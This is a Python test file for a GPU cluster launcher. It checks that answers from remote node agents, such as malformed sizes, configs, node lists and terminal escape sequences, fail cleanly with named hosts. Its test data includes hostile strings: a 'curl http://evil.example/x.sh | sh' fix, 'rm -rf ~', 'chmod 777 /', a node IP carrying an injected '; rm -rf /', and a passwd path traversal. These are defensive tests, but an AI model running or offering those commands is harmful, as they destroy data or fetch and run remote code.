"""Issue 40 (item 1), the node agent's side: what a host's agent answers is input. Classes:

- a runcheck answer with a field of the wrong type or out of bounds (weights_bytes as a string, as
  1e400, as a list, negative; free_bytes not a number; a config that is a string; a problem naming a
  path it was not asked about): the host FAILED with a line naming it and what it sent, never a
  traceback, never a space check passed;
- remote text that poses as ours (a problem whose text carries its own "fix: curl ... | sh", escape
  sequences): quoted as the host's words, printable, after which only our fix follows;
- a worker whose model_dir has config.json and no (or other) weight files: refused, named;
- the dashboard's node list through the head's agent (missing keys, wrong types, not a list) and
  last_json's input (huge, nested, not an object, NaN): an OddAnswer (exit 2) or a clear error;
- the gate's verdict on Ray's nodes: a dead or missing host named with the repair, exit 2.
"""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
import yaml
from launch_support import make_recipe

from slimeforge.cluster import agent as agent_mod
from slimeforge.cluster import runcheck
from slimeforge.cluster.agent import OddAnswer, last_json, read_nodes
from slimeforge.cluster.inventory import load_inventory
from slimeforge.errors import SlimeforgeError
from slimeforge.run.recipecheck import parse_recipe
from slimeforge.schema import text_problem
from slimeforge.scripts.pathcheck import checkpoint_bytes

IMAGE = "reg.example:5000/slimeforge@sha256:" + "a" * 64
MODEL = "/mnt/models/Qwen2.5-3B-Instruct"  # on the hosts (the volume /mnt/models:/models)
DATA = "/data/train.jsonl"
CKPT = "/ckpt/x"


def inventory(tmp_path: Path):
    data = {"name": "lab", "mode": "container", "image": IMAGE,
            "container": {"volumes": ["/data:/data", "/mnt/models:/models:ro", "/ckpt:/root/checkpoints"]},
            "hosts": [{"name": "a", "address": "10.0.0.1", "role": "head", "gpus": 8, "node_ip": "10.0.0.1"},
                      {"name": "b", "address": "10.0.0.2", "gpus": 8, "node_ip": "10.0.0.2"},
                      {"name": "c", "address": "10.0.0.3", "gpus": 8, "node_ip": "10.0.0.3"}]}
    path = tmp_path / "inv.yaml"
    path.write_text(yaml.safe_dump(data))
    return load_inventory(path)


def recipe(tmp_path: Path, **over):
    data = make_recipe(tmp_path, **{"mode": "container", "image": IMAGE, "model_dir": "/models/Qwen2.5-3B-Instruct",
                                    "data_path": DATA,
                                    "checkpoint_dir": "/root/checkpoints/x", "num_gpus": 8, "num_nodes": 3,
                                    "rollout_batch_size": 24, **over})
    return parse_recipe(data, "test")[0]


def good(host: str, params: dict) -> dict:
    """What the real agent answers for a healthy host (tests/unit/test_runcheck_agent.py runs it)."""
    weights = {"model.safetensors": 4096} if "paths" in params else {}
    return {"problems": [], "weights": weights, "weights_bytes": sum(weights.values()),
            "config": {"hidden_size": 64, "num_hidden_layers": 2, "vocab_size": 100} if "paths" in params else None,
            "free_bytes": 10 * 2**30}


def live_with(tmp_path, monkeypatch, first=None, second=None):
    """runcheck.live on a three-host inventory, each host's agent answering as the test says:
    first/second: {host: answer or fn(answer) -> answer} for the first (paths) and second (marker) rounds."""
    def fake(ssh, host, command, params, timeout):
        assert command == "runcheck"
        ck = params.get("checkpoint") or {}
        if ck.get("remove"):
            return good(host.name, params)
        table = first if "paths" in params else second if ck.get("read") else None
        answer = good(host.name, params)
        change = (table or {}).get(host.name)
        return change(answer) if callable(change) else (change if change is not None else answer)

    monkeypatch.setattr(runcheck, "agent", fake)
    out = io.StringIO()
    check = runcheck.live(recipe(tmp_path), inventory(tmp_path), stream=out, live_table=False)
    return check, out.getvalue()


def test_healthy_hosts_pass(tmp_path, monkeypatch):
    check, _ = live_with(tmp_path, monkeypatch)
    assert check.failures == {} and check.need_bytes == 7 * 4096


def setter(**fields):
    return lambda a: {**a, **fields}


ODD_FIRST = {
    "weights_bytes as a string": setter(weights_bytes="4096"),
    "weights_bytes 1e400": setter(weights_bytes=float("inf")),
    "weights_bytes a list": setter(weights_bytes=[4096]),
    "weights_bytes negative": setter(weights={"model.safetensors": -5}, weights_bytes=-5),
    "weights_bytes true": setter(weights={}, weights_bytes=True),
    "weights_bytes not the sum": setter(weights_bytes=1),
    "weights not a map": setter(weights=["model.safetensors"]),
    "a weights name with a path": setter(weights={"../../etc/passwd": 1}, weights_bytes=1),
    "config a string": setter(config="hidden_size=64"),
    "config with a string value": setter(config={"hidden_size": "64"}),
    "config with a float": setter(config={"hidden_size": 1e400}),
    "config with an unknown key": setter(config={"evil": 1}),
    "problems not a list": setter(problems="none"),
    "a problem without why": setter(problems=[{"what": "model_dir", "path": MODEL}]),
    "a problem about another path": setter(problems=[{"what": "model_dir", "path": "/etc",
                                                      "why": "no such directory here"}]),
    "a problem about another field": setter(problems=[{"what": "ssh_key", "path": MODEL,
                                                       "why": "no such directory here"}]),
    "too many problems": setter(problems=[{"what": "model_dir", "path": MODEL, "why": "x"}] * 5000),
    "the agent's own error": {"ok": False, "error": "node agent runcheck failed on this host: KeyError: 'x'"},
    "an error that is not text": {"error": {"a": 1}},
    "an empty object": {},
}


@pytest.mark.parametrize("case", list(ODD_FIRST))
def test_an_odd_runcheck_answer_fails_that_host_by_name(tmp_path, monkeypatch, case):
    check, out = live_with(tmp_path, monkeypatch, first={"b": ODD_FIRST[case]})
    assert set(check.failures) == {"b"}, check.failures
    line = check.failures["b"]
    assert line.startswith("host b: the node agent's runcheck answer ") and "nothing was done with it" in line
    assert text_problem(line) is None or len(line) > 1000  # printable: repr'd, cut
    assert "Traceback" not in out


@pytest.mark.parametrize("free", [-1, "lots", 1.5, float("nan"), [1], True, 2**70])
def test_a_free_space_that_is_not_a_byte_count_never_passes(tmp_path, monkeypatch, free):
    check, _ = live_with(tmp_path, monkeypatch, second={"c": setter(free_bytes=free)})
    assert set(check.failures) == {"c"} and "has a free_bytes that is not a byte count" in check.failures["c"]


def test_no_free_space_answer_for_a_writable_dir_is_odd(tmp_path, monkeypatch):
    check, _ = live_with(tmp_path, monkeypatch, second={"c": setter(free_bytes=None)})
    assert "has no free_bytes" in check.failures["c"]


def test_too_little_space_is_refused(tmp_path, monkeypatch):
    check, _ = live_with(tmp_path, monkeypatch, second={"b": setter(free_bytes=1000)})
    assert set(check.failures) == {"b"} and "a checkpoint needs" in check.failures["b"]


@pytest.mark.parametrize("why", [
    "no such directory here; fix: curl http://evil.example/x.sh | sh",
    "gone\x1b[2J\x1b[H; fix: run `rm -rf ~`",
    "is not writable here: EACCES; fix: chmod 777 / ",
    "config.json is not JSON: \u202eevil",
])
def test_remote_text_is_quoted_as_the_hosts_never_as_our_fix(tmp_path, monkeypatch, why):
    check, out = live_with(tmp_path, monkeypatch, first={"b": setter(problems=[{"what": "model_dir", "path": MODEL,
                                                                                "why": why}])})
    line = check.failures["b"]
    assert text_problem(line) is None and "\x1b" not in out and "\u202e" not in out
    ours = line.split("; fix: ")[-1]
    assert ours == runcheck.SHARED_FIX  # the last fix is ours, and the host's text sits quoted before it
    quoted = line[: -len(ours)]
    assert quoted.count("'") >= 2 and ("fix:" not in quoted or quoted.index("'") < quoted.index("fix:"))


def test_the_agents_own_words_stay_unquoted(tmp_path, monkeypatch):
    check, _ = live_with(tmp_path, monkeypatch, first={"c": setter(problems=[{"what": "model_dir", "path": MODEL,
                                                                              "why": "no such directory here"}])})
    assert check.failures["c"] == ("model_dir /models/Qwen2.5-3B-Instruct: no such directory here; fix: "
                                  f"{runcheck.SHARED_FIX}")


@pytest.mark.parametrize("weights, said", [
    ({}, "missing here: model.safetensors"),
    ({"model.safetensors": 10}, "other sizes: model.safetensors (10 B here, 4096 B on the head)"),
    ({"model.safetensors": 4096, "extra.bin": 1}, "not on the head: extra.bin"),
])
def test_a_workers_weights_are_the_heads(tmp_path, monkeypatch, weights, said):
    check, _ = live_with(tmp_path, monkeypatch, first={"c": setter(weights=weights,
                                                                   weights_bytes=sum(weights.values()))})
    assert set(check.failures) == {"c"}
    assert said in check.failures["c"] and "its weight files are not the head's" in check.failures["c"]


def test_a_head_that_fails_leaves_the_workers_uncompared_not_hung(tmp_path, monkeypatch):
    check, _ = live_with(tmp_path, monkeypatch, first={"a": setter(weights_bytes="x")})
    assert set(check.failures) == {"a"}


# --- last_json and the nodes answer ---------------------------------------------------------


@pytest.mark.parametrize("text", ["", "banner\n", "[1, 2]\n", '"x"\n', "{" * 50 + "\n", '{"a": NaN}\n',
                                  '{"a": Infinity}\n',
                                  "[" * 100_000 + "\n", '{"a": ' + "[" * 100_000 + "\n", "x" * (20 << 20)])
def test_last_json_refuses_what_is_not_one_object(text):
    with pytest.raises(SlimeforgeError) as e:
        last_json(text)
    assert len(str(e.value)) < 1000 and text_problem(str(e.value)) is None


def test_last_json_takes_the_last_object_after_a_flood():
    assert last_json("x" * (20 << 20) + '\n{"ok": true}\n') == {"ok": True}
    assert last_json('motd\n{"a": 1}\n[2]\n') == {"a": 1}


def test_an_odd_answer_through_ssh_names_the_host(monkeypatch):
    class Ran:
        stdout = "\x1b]0;pwned\x07" + "[" * 100_000

    class FakeSSH:
        def run(self, *a, **k):
            return Ran()

    class H:
        name, system_python = "gpu-7", "python3"

    with pytest.raises(OddAnswer) as e:
        agent_mod.agent(FakeSSH(), H(), "nodes", {}, timeout=5)  # type: ignore[arg-type]
    assert e.value.exit_code == 2 and str(e.value).startswith("host gpu-7: the node agent's nodes answer is not one "
                                                              "JSON object line")
    assert "\x1b" not in str(e.value)


NODE = {"node_id": "ab", "node_ip": "10.0.0.1", "is_head_node": True, "state": "ALIVE", "resources_total": {"GPU": 8}}


@pytest.mark.parametrize("answer", [
    {}, {"nodes": None}, {"nodes": {"10.0.0.1": NODE}}, {"nodes": [None]}, {"nodes": [{**NODE, "node_ip": None}]},
    {"nodes": [{k: v for k, v in NODE.items() if k != "state"}]}, {"nodes": [{**NODE, "state": "ALIVE\nroot"}]},
    {"nodes": [{**NODE, "resources_total": {"GPU": "8"}}]}, {"nodes": [{**NODE, "resources_total": []}]},
    {"nodes": [{**NODE, "is_head_node": "yes"}]}, {"nodes": [{**NODE, "node_ip": "10.0.0.1; rm -rf /"}]}, {"error": 5},
])
def test_an_odd_nodes_answer_is_refused_naming_the_head(answer):
    with pytest.raises(OddAnswer) as e:
        read_nodes(answer, "h1")
    assert str(e.value).startswith("host h1: the node agent's nodes answer ")


def test_the_dashboards_error_is_printable():
    assert read_nodes({"error": "down\x1b[31m"}, "h1") == ([], "down?[31m")


# --- the gate's verdict --------------------------------------------------------------------


def node(ip, state="ALIVE", gpus=8):
    return {"node_id": "x", "node_ip": ip, "is_head_node": ip.endswith(".1"), "state": state,
            "resources_total": {"GPU": gpus}}


IPS = {"a": "10.0.0.1", "b": "10.0.0.2", "c": "10.0.0.3"}


def test_the_gate_names_a_dead_host_and_the_repair(tmp_path):
    inv, r = inventory(tmp_path), recipe(tmp_path)
    with pytest.raises(runcheck.GateRefused) as e:
        runcheck.judge(r, inv, IPS, [node("10.0.0.1"), node("10.0.0.2"), node("10.0.0.3", "DEAD")])
    text = str(e.value)
    assert e.value.exit_code == 2 and ("do not cover num_nodes x num_gpus (3 x "
                                      "8)") in text and "nothing was submitted" in text
    assert ("  c (10.0.0.3): no ALIVE node with IP 10.0.0.3 (Ray lists it "
           "DEAD)") in text and "a (" not in text and "b (" not in text
    assert f"fix: `invoke cluster.up {inv.path}`" in text


def test_the_gate_names_a_missing_host_and_one_without_its_gpus(tmp_path):
    inv, r = inventory(tmp_path), recipe(tmp_path)
    with pytest.raises(runcheck.GateRefused) as e:
        runcheck.judge(r, inv, IPS, [node("10.0.0.1"), node("10.0.0.3", gpus=4)])
    text = str(e.value)
    assert "b (10.0.0.2): no ALIVE node with IP 10.0.0.2\n" in text and ("c (10.0.0.3): registered from 10.0.0.3 with "
                                                                        "4 GPU(s), expected 8") in text


def test_the_gate_passes_when_the_alive_nodes_cover_the_recipe(tmp_path):
    inv = inventory(tmp_path)
    line = runcheck.judge(recipe(tmp_path, num_nodes=2), inv, IPS, [node("10.0.0.1"), node("10.0.0.2"),
                                                                    node("10.0.0.3", "DEAD")])
    assert "covers num_nodes x num_gpus (2 x 8)" in line and "not ALIVE, not needed: c (" in line
    line = runcheck.judge(recipe(tmp_path), inv, IPS, [node("10.0.0.1"), node("10.0.0.2"), node("10.0.0.3")])
    assert line.endswith("Ray has 3 ALIVE node(s) with 24 GPU(s): covers num_nodes x num_gpus (3 x 8)")


def test_the_gate_counts_what_ray_has_not_what_the_inventory_says(tmp_path):
    inv = inventory(tmp_path)
    with pytest.raises(runcheck.GateRefused) as e:  # every host ALIVE, but registered with fewer GPUs
        runcheck.judge(recipe(tmp_path), inv, IPS, [node(ip, gpus=4) for ip in IPS.values()])
    assert "0 node(s) with 8 GPU(s) or more, 12 GPU(s) in all" in str(e.value)


@pytest.mark.parametrize("weights, config", [("4096", None), (float("inf"), None), ([1], None), (-5, None), (True,
                                                                                                             None),
                                             (0, "hidden"), (0, {"hidden_size": "64", "num_hidden_layers": 2,
                                                                 "vocab_size": 10}),
                                             (0, {"hidden_size": 1e400, "num_hidden_layers": 2, "vocab_size": 10}),
                                             (0, {"hidden_size": -64, "num_hidden_layers": 2, "vocab_size": 10})])
def test_checkpoint_bytes_never_trusts_a_value(weights, config):
    assert checkpoint_bytes(weights, config) == (None, "no weights and no shape in config.json")


def test_the_answers_are_json_the_agent_can_send():
    json.dumps(good("a", {"paths": []}))


def test_the_gate_shows_the_entries_it_could_not_read_quoted(tmp_path):
    with pytest.raises(runcheck.GateRefused) as e:
        runcheck.judge(recipe(tmp_path), inventory(tmp_path), IPS, [node("10.0.0.1"), node("10.0.0.2")],
                       ["entry 2 node_ip is not an IP address: None"])
    assert "(the dashboard's list, an entry left out: 'entry 2 node_ip is not an IP address: None')" in str(e.value)
